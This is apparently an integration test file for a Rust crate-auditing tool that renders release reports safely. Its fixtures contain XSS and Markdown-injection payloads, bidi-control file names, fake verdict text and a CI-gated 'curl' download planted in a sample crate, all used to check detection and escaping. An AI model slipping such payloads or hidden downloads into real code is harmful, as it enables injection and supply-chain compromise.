//! Release reports end to end: `cargofox sync` writes Markdown and JSON into
//! the audit repository and commits it; the output is deterministic, safe to
//! render (checked with comrak), snapshot-tested, and publishable to a local
//! bare repository that `git clone` can read.

use std::path::{Path, PathBuf};

use comrak::nodes::NodeValue;

use crate::harness::{Cargofox, IndexEntry, TestRegistry, crate_file_with_modes, git, temp_dir};

const NOW: &str = "2026-01-02T03:04:05Z";

fn sync(data: &Path, reg: &TestRegistry, crates: &[&str]) -> crate::harness::Output {
    Cargofox::new()
        .data(data)
        .registry(&reg.file_url())
        .args(["--current-time", NOW])
        .sync(crates)
        .run()
}

fn audit(data: &Path) -> PathBuf {
    data.join("audit")
}

fn read(data: &Path, rel: &str) -> String {
    std::fs::read_to_string(audit(data).join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
}

fn add(reg: &mut TestRegistry, name: &str, v: &str, t: &str, files: &[(&str, u32, &[u8])]) {
    let mut e = IndexEntry::new(name, v, crate_file_with_modes(name, v, files));
    e.pubtime = Some(t.to_owned());
    // The index lists what the manifest declares, as crates.io writes it.
    let dep = |name: &str, req: &str, kind: &str| {
        serde_json::json!({"name": name, "req": req, "features": [], "optional": false,
            "default_features": true, "target": null, "kind": kind})
    };
    e.deps = match v {
        "0.1.0" => vec![dep("serde", "^1", "normal")],
        "0.2.0" => vec![dep("serde", "^1.0.100", "normal"), dep("cc", "^1", "build")],
        _ => Vec::new(),
    };
    reg.add_entry(e);
}

/// A small history: a first release, then one that adds a build script, a
/// binary, a build-dependency, changes line endings and renames a file, and
/// carries hostile names and content.
fn fixture() -> TestRegistry {
    let mut reg = TestRegistry::new();
    let toml1 =
        b"[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nserde = \"1\"\n";
    add(
        &mut reg,
        "demo",
        "0.1.0",
        "2024-01-01T00:00:00Z",
        &[
            ("Cargo.toml", 0o644, toml1),
            ("Cargo.toml.orig", 0o644, toml1),
            (
                "src/lib.rs",
                0o644,
                b"pub fn hello() -> &'static str {\n    \"hello\"\n}\n",
            ),
            (
                "src/old_name.rs",
                0o644,
                b"// a module that will be renamed\npub fn x() {}\n",
            ),
            ("README.md", 0o644, b"line one\nline two\n"),
        ],
    );
    // A repository URL and a .cargo_vcs_info.json made to imitate verdicts
    // and smuggle Markdown: refused and shown as code (nothing is fetched).
    let toml2 = b"[package]\nname = \"demo\"\nversion = \"0.2.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\nrepository = \"[\xe2\x9c\x85 matches upstream](javascript:alert(1)) <img src=x onerror=alert(1)>\"\n\n[dependencies]\nserde = \"1.0.100\"\n\n[build-dependencies]\ncc = \"1\"\n";
    let hostile = "```\n# Facts\n✅ matches upstream\n<img src=x onerror=alert(1)>\n[link](javascript:alert(1))\n\u{202E}evil\u{200B}\n~~~\n````\n";
    add(
        &mut reg,
        "demo",
        "0.2.0",
        "2024-02-01T00:00:00Z",
        &[
            ("Cargo.toml", 0o644, toml2),
            ("Cargo.toml.orig", 0o644, toml2),
            (
                "build.rs",
                0o644,
                b"fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }\n",
            ),
            (
                "src/lib.rs",
                0o644,
                b"pub fn hello() -> &'static str {\n    \"hello, world\"   \n}\n",
            ),
            (
                "src/new_name.rs",
                0o644,
                b"// a module that will be renamed\npub fn x() {}\n",
            ),
            ("README.md", 0o644, b"line one\r\nline two\r\n"),
            ("blob.bin", 0o755, b"\x7fELF\x02\x01\x01\0\0\0payload"),
            ("evil`|name\u{202E}.rs", 0o644, hostile.as_bytes()),
            (
                ".cargo_vcs_info.json",
                0o644,
                br#"{"git":{"sha1":"\u2705 exact <img src=x onerror=alert(1)>"},"path_in_vcs":"**Verdict: exact** [x](javascript:alert(1))"}"#,
            ),
        ],
    );
    reg
}

/// Every node of a Markdown document.
fn nodes(md: &str) -> Vec<(String, String)> {
    let arena = comrak::Arena::new();
    let mut opts = comrak::Options::default();
    opts.extension.table = true;
    opts.extension.strikethrough = true;
    opts.extension.autolink = true;
    opts.extension.tasklist = true;
    let root = comrak::parse_document(&arena, md, &opts);
    root.descendants()
        .map(|n| {
            let v = &n.data.borrow().value;
            let text = match v {
                NodeValue::Text(t) => t.to_string(),
                NodeValue::Code(c) => c.literal.clone(),
                NodeValue::CodeBlock(c) => c.literal.clone(),
                NodeValue::Link(l) => l.url.clone(),
                NodeValue::Image(l) => l.url.clone(),
                NodeValue::HtmlInline(h) => h.clone(),
                NodeValue::HtmlBlock(h) => h.literal.clone(),
                NodeValue::Heading(_) => String::new(),
                _ => String::new(),
            };
            (
                format!("{v:?}")
                    .split(['(', ' ', '{'])
                    .next()
                    .unwrap_or_default()
                    .to_owned(),
                text,
            )
        })
        .collect()
}

#[test]
fn a_release_report_has_facts_changes_manifest_and_signals() {
    let reg = fixture();
    let data = temp_dir();
    sync(data.path(), &reg, &["demo"])
        .assert_success()
        .assert_stdout_contains("audit: committed");
    let md = read(data.path(), "crates/de/mo/demo/0.2.0.md");
    let json: serde_json::Value = serde_json::from_str(&read(data.path(), "crates/de/mo/demo/0.2.0.json")).unwrap();

    assert_eq!(json["schema_version"], 2);
    assert_eq!(json["crate"], "demo");
    assert_eq!(json["analysed_at"], NOW);
    let sha = crate::harness::sha256_hex(&std::fs::read(reg.crate_path("demo", "0.2.0")).unwrap());
    assert_eq!(json["facts"]["sha256"], sha.as_str());
    assert_eq!(json["facts"]["index_checksum_matched"], true);
    let store = data.path().join("store.git");
    let commit = git(&store, &["rev-parse", "refs/crates/demo/0.2.0"]);
    assert_eq!(json["facts"]["commit"], commit.trim());
    assert_eq!(json["facts"]["previous"]["version"], "0.1.0");

    let codes: Vec<&str> = json["signals"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["code"].as_str().unwrap())
        .collect();
    assert_eq!(
        codes,
        vec![
            "build-script-added",
            "new-build-dependency",
            "binary-file-added",
            "archive-anomaly",
            "binary-executable",
            "bidi-control-character",
            "invisible-character"
        ]
    );
    assert_eq!(
        json["code"]["facts"]["build_script"]["present"], true,
        "{}",
        json["code"]
    );

    let changes = &json["changes"];
    let status_of = |p: &str| {
        changes["files"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["new_path"] == p || f["old_path"] == p)
            .map(|f| f["status"].as_str().unwrap().to_owned())
    };
    assert_eq!(status_of("build.rs").as_deref(), Some("added"));
    assert_eq!(status_of("src/new_name.rs").as_deref(), Some("renamed"));
    assert_eq!(status_of("src/lib.rs").as_deref(), Some("modified"));
    assert_eq!(status_of("README.md").as_deref(), Some("modified"));
    assert_eq!(status_of("Cargo.lock"), None);

    // The Markdown shows the facts with the commands to check them.
    assert!(md.contains(&sha), "sha256 shown");
    assert!(md.contains("| sha256sum"), "check command shown");
    assert!(md.contains("## Changes since `0.1.0`"), "{md}");
    assert!(md.contains("line endings"), "CRLF flip made visible");
    assert!(md.contains("·"), "trailing whitespace made visible");
    assert!(
        md.contains("<U+202E>") && md.contains("**Warning**"),
        "bidi shown and warned about"
    );
    assert!(md.contains("`cc`"), "new build-dependency shown");

    // The crate page and the top-level README.
    let page = read(data.path(), "crates/de/mo/demo/README.md");
    assert!(
        page.contains("[`0.2.0`](0.2.0.md)") && page.contains("build-script-added"),
        "{page}"
    );
    let top = read(data.path(), "README.md");
    assert!(
        top.contains("crates/de/mo/demo/README.md") && top.contains(NOW),
        "{top}"
    );
}

#[test]
fn untrusted_text_never_becomes_markdown_structure() {
    let reg = fixture();
    let data = temp_dir();
    sync(data.path(), &reg, &["demo"]).assert_success();
    for rel in [
        "crates/de/mo/demo/0.1.0.md",
        "crates/de/mo/demo/0.2.0.md",
        "crates/de/mo/demo/README.md",
        "README.md",
        "STATS.md",
    ] {
        let md = read(data.path(), rel);
        for (kind, text) in nodes(&md) {
            match kind.as_str() {
                "HtmlInline" | "HtmlBlock" | "Image" => panic!("{rel}: {kind} {text:?}"),
                "Link" => assert!(
                    text.ends_with(".md")
                        || text == "https://github.com/cargofox/cargofox"
                        || text == "VERIFY.md"
                        || text == "stats.json",
                    "{rel}: unexpected link {text:?}"
                ),
                "Text" => {
                    assert!(!text.contains("onerror"), "{rel}: hostile text outside code: {text:?}");
                    assert!(!text.contains("✅"), "{rel}: imitated verdict outside code: {text:?}");
                }
                _ => {}
            }
        }
        // Headings are only ours.
        let arena = comrak::Arena::new();
        let root = comrak::parse_document(&arena, &md, &comrak::Options::default());
        for n in root.descendants() {
            if let NodeValue::Heading(_) = n.data.borrow().value {
                let text: String = n
                    .descendants()
                    .filter_map(|d| match &d.data.borrow().value {
                        NodeValue::Text(t) => Some(t.to_string()),
                        _ => None,
                    })
                    .collect();
                assert!(!text.contains("Facts") || rel.ends_with(".md"), "{text}");
                assert!(
                    !text.contains("matches upstream"),
                    "{rel}: a heading from crate text: {text}"
                );
            }
        }
    }
}

#[test]
fn reports_are_deterministic_and_a_rerun_changes_nothing() {
    let reg = fixture();
    let (a, b) = (temp_dir(), temp_dir());
    sync(a.path(), &reg, &["demo"]).assert_success();
    sync(b.path(), &reg, &["demo"]).assert_success();
    let files = |d: &Path| {
        let out = git(&audit(d), &["ls-files", "-s"]);
        let head = git(&audit(d), &["rev-parse", "HEAD"]);
        (out, head)
    };
    assert_eq!(
        files(a.path()),
        files(b.path()),
        "same inputs, same files and same audit commit"
    );
    let head = git(&audit(a.path()), &["rev-parse", "HEAD"]);
    let out = Cargofox::new()
        .data(a.path())
        .registry(&reg.file_url())
        .args(["--current-time", "2027-01-01T00:00:00Z"])
        .sync(&["demo"])
        .run();
    out.assert_success();
    assert!(!out.stdout.contains("audit: committed"), "{out}");
    assert_eq!(git(&audit(a.path()), &["rev-parse", "HEAD"]), head, "no new commit");
    assert!(
        git(&audit(a.path()), &["status", "--porcelain"]).is_empty(),
        "no file touched"
    );
}

#[test]
fn a_yank_rerenders_the_release_and_the_crate_page() {
    let mut reg = fixture();
    let data = temp_dir();
    sync(data.path(), &reg, &["demo"]).assert_success();
    let before_010 = read(data.path(), "crates/de/mo/demo/0.1.0.md");
    reg.yank("demo", "0.2.0", true);
    sync(data.path(), &reg, &["demo"])
        .assert_success()
        .assert_stdout_contains("audit: committed");
    let json: serde_json::Value = serde_json::from_str(&read(data.path(), "crates/de/mo/demo/0.2.0.json")).unwrap();
    assert_eq!(json["yanked"], true);
    assert!(read(data.path(), "crates/de/mo/demo/0.2.0.md").contains("**yanked**"));
    assert!(read(data.path(), "crates/de/mo/demo/README.md").contains("| yanked |"));
    assert_eq!(
        read(data.path(), "crates/de/mo/demo/0.1.0.md"),
        before_010,
        "other reports untouched"
    );
}

#[test]
fn publish_pushes_to_a_bare_remote_that_clones_clean() {
    let reg = fixture();
    let data = temp_dir();
    sync(data.path(), &reg, &["demo"]).assert_success();
    let remote_dir = temp_dir();
    let remote = remote_dir.path().join("audit.git");
    git(
        remote_dir.path(),
        &["init", "-q", "--bare", "-b", "main", remote.to_str().unwrap()],
    );
    Cargofox::new()
        .data(data.path())
        .args(["publish", "--remote", remote.to_str().unwrap()])
        .run()
        .assert_success()
        .assert_stdout_contains("publish: pushed main");
    let clone = remote_dir.path().join("clone");
    git(
        remote_dir.path(),
        &["clone", "-q", remote.to_str().unwrap(), clone.to_str().unwrap()],
    );
    assert!(clone.join("crates/de/mo/demo/0.2.0.md").exists());
    assert!(clone.join("verify.sh").exists() && clone.join("VERIFY.md").exists());
    git(&clone, &["fsck", "--strict", "--no-progress"]);
    // A remote that moved on is never overwritten.
    let other = remote_dir.path().join("other");
    git(
        remote_dir.path(),
        &["clone", "-q", remote.to_str().unwrap(), other.to_str().unwrap()],
    );
    std::fs::write(other.join("note"), "someone else\n").unwrap();
    git(&other, &["add", "note"]);
    git(
        &other,
        &[
            "-c",
            "user.name=x",
            "-c",
            "user.email=x@x",
            "commit",
            "-q",
            "-m",
            "other",
        ],
    );
    git(&other, &["push", "-q", "origin", "HEAD:main"]);
    let mut reg2 = fixture();
    add(
        &mut reg2,
        "demo",
        "0.3.0",
        "2024-03-01T00:00:00Z",
        &[("Cargo.toml", 0o644, b"[package]\nname=\"demo\"\n")],
    );
    sync(data.path(), &reg2, &["demo"]).assert_success();
    Cargofox::new()
        .data(data.path())
        .args(["publish", "--remote", remote.to_str().unwrap()])
        .run()
        .assert_code(2)
        .assert_stderr_contains("refused");
}

#[test]
fn diff_prints_the_changes_between_two_stored_versions() {
    let reg = fixture();
    let data = temp_dir();
    sync(data.path(), &reg, &["demo"]).assert_success();
    let out = Cargofox::new()
        .data(data.path())
        .args(["diff", "demo", "0.1.0", "0.2.0"])
        .run();
    out.assert_success()
        .assert_stdout_contains("diff --cargofox a//dev/null b/build.rs (added)")
        .assert_stdout_contains("+    \"hello, world\"   ")
        .assert_stdout_contains("<U+202E>");
    assert!(
        !out.stdout.contains('\u{202E}'),
        "no raw bidi control reaches the terminal"
    );
}

#[test]
fn snapshot_of_a_report() {
    let reg = fixture();
    let data = temp_dir();
    sync(data.path(), &reg, &["demo"]).assert_success();
    // The registry lives in a temporary directory: normalise its path.
    let root = reg.root().display().to_string();
    let report = read(data.path(), "crates/de/mo/demo/0.2.0.md").replace(&root, "/REGISTRY");
    insta::assert_snapshot!("demo-0.2.0.md", report);
    insta::assert_snapshot!("demo-README.md", read(data.path(), "crates/de/mo/demo/README.md"));
    insta::assert_snapshot!("audit-README.md", read(data.path(), "README.md"));
}

#[test]
fn a_huge_release_is_split_into_pages_with_the_complete_file_list() {
    let mut reg = TestRegistry::new();
    let many = 4000;
    let make = |v: &str, salt: &str| {
        let names: Vec<String> = (0..many).map(|i| format!("src/gen/file_{i:05}.rs")).collect();
        let bodies: Vec<String> = (0..many)
            .map(|i| format!("// {salt} {i}\n{}\n", "x".repeat(200)))
            .collect();
        let mut files: Vec<(&str, u32, &[u8])> = vec![("Cargo.toml", 0o644, b"[package]\nname = \"huge\"\n")];
        for (n, b) in names.iter().zip(&bodies) {
            files.push((n.as_str(), 0o644, b.as_bytes()));
        }
        crate_file_with_modes("huge", v, &files)
    };
    for (v, salt, t) in [
        ("1.0.0", "one", "2024-01-01T00:00:00Z"),
        ("1.1.0", "two", "2024-02-01T00:00:00Z"),
    ] {
        let mut e = IndexEntry::new("huge", v, make(v, salt));
        e.pubtime = Some(t.to_owned());
        reg.add_entry(e);
    }
    let data = temp_dir();
    sync(data.path(), &reg, &["huge"]).assert_success();
    let dir = audit(data.path()).join("crates/hu/ge/huge");
    let main = std::fs::read_to_string(dir.join("1.1.0.md")).unwrap();
    assert!(main.len() <= 512 * 1024, "main page is {} bytes", main.len());
    assert!(
        main.contains("This release changes 4001 files") || main.contains("This release changes 4000 files"),
        "{}",
        &main[..2000.min(main.len())]
    );
    // Every changed file is listed on exactly one file page.
    let mut listed = 0;
    let mut page = 1;
    while let Ok(p) = std::fs::read_to_string(dir.join(format!("1.1.0.files-{page}.md"))) {
        assert!(p.len() <= 512 * 1024);
        listed += p.lines().filter(|l| l.starts_with("| modified")).count();
        page += 1;
    }
    assert_eq!(listed, many, "the file list is complete");
    let diffs = std::fs::read_to_string(dir.join("1.1.0.diffs-1.md")).unwrap();
    assert!(diffs.contains("Back to [the report](1.1.0.md)"));
    assert!(main.contains("(1.1.0.diffs-1.md)"));
    // Truncation is explicit.
    assert!(
        main.contains("of the diffs below are cut or left out"),
        "explicit counts"
    );
}

#[test]
fn versions_that_differ_only_by_case_get_distinct_reports() {
    let mut reg = TestRegistry::new();
    for (v, t) in [
        ("1.0.0-Alpha", "2024-01-01T00:00:00Z"),
        ("1.0.0-alpha", "2024-01-02T00:00:00Z"),
    ] {
        add(
            &mut reg,
            "cased",
            v,
            t,
            &[("Cargo.toml", 0o644, format!("# {v}\n").as_bytes())],
        );
    }
    let data = temp_dir();
    sync(data.path(), &reg, &["cased"]).assert_success();
    let dir = audit(data.path()).join("crates/ca/se/cased");
    let upper = std::fs::read_to_string(dir.join("1.0.0-_alpha.md")).unwrap();
    let lower = std::fs::read_to_string(dir.join("1.0.0-alpha.md")).unwrap();
    assert!(upper.contains("`1.0.0-Alpha`") && lower.contains("`1.0.0-alpha`"));
    let names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_lowercase())
        .collect();
    let unique: std::collections::BTreeSet<&String> = names.iter().collect();
    assert_eq!(
        unique.len(),
        names.len(),
        "no two file names differ only by case: {names:?}"
    );
}

#[test]
fn an_environment_gated_download_added_in_a_patch_release_is_signalled_there_only() {
    let mut reg = TestRegistry::new();
    let toml = b"[package]\nname = \"quiet\"\nversion = \"1.0.0\"\n";
    let benign = b"pub fn greet() -> String {\n    \"hello\".to_owned()\n}\n";
    let attack = b"pub fn greet() -> String {\n    if std::env::var(\"CI\").is_ok() {\n        let _ = std::process::Command::new(\"curl\").arg(\"-sSf\").arg(\"https://example.invalid/x\").output();\n    }\n    \"hello\".to_owned()\n}\n";
    add(
        &mut reg,
        "quiet",
        "1.0.0",
        "2024-01-01T00:00:00Z",
        &[("Cargo.toml", 0o644, toml), ("src/lib.rs", 0o644, benign)],
    );
    add(
        &mut reg,
        "quiet",
        "1.0.1",
        "2024-02-01T00:00:00Z",
        &[("Cargo.toml", 0o644, toml), ("src/lib.rs", 0o644, attack)],
    );
    let data = temp_dir();
    sync(data.path(), &reg, &["quiet"]).assert_success();
    let codes = |v: &str| -> Vec<String> {
        let json: serde_json::Value =
            serde_json::from_str(&read(data.path(), &format!("crates/qu/ie/quiet/{v}.json"))).unwrap();
        json["signals"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s["code"].as_str().unwrap().to_owned())
            .collect()
    };
    assert!(codes("1.0.0").is_empty(), "{:?}", codes("1.0.0"));
    let second = codes("1.0.1");
    for c in ["process-added", "env-gated-code"] {
        assert!(second.iter().any(|x| x == c), "{c} missing: {second:?}");
    }
    let md = read(data.path(), "crates/qu/ie/quiet/1.0.1.md");
    assert!(
        md.contains("`src/lib.rs:3`"),
        "the finding names its file and line: {md}"
    );
}
